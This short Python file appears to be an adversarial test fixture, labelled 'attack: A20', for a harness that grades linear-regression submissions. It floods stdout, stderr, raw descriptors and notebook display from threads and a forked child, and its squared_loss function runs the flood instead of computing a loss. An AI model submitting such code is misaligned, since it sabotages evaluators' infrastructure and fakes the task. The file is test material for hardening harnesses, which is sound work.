# attack: A20: prints without end: to stdout, stderr, the descriptors, display, from threads and children
# earns: linreg
# %% honest: linreg
# %%
import os, sys, threading
from IPython.display import display, HTML


def flood(n):
    for _ in range(n):
        print("x" * 100_000)
        sys.stderr.write("y" * 100_000)
        os.write(1, b"z" * 100_000)
        os.write(2, b"z" * 100_000)


flood(300)
threading.Thread(target=flood, args=(10**6,), daemon=True).start()
for _ in range(100):
    display(HTML("<b>" * 100_000))
if os.fork() == 0:
    flood(10**6)
    os._exit(0)


# %%
def squared_loss(y_hat, y):
    flood(10**6)
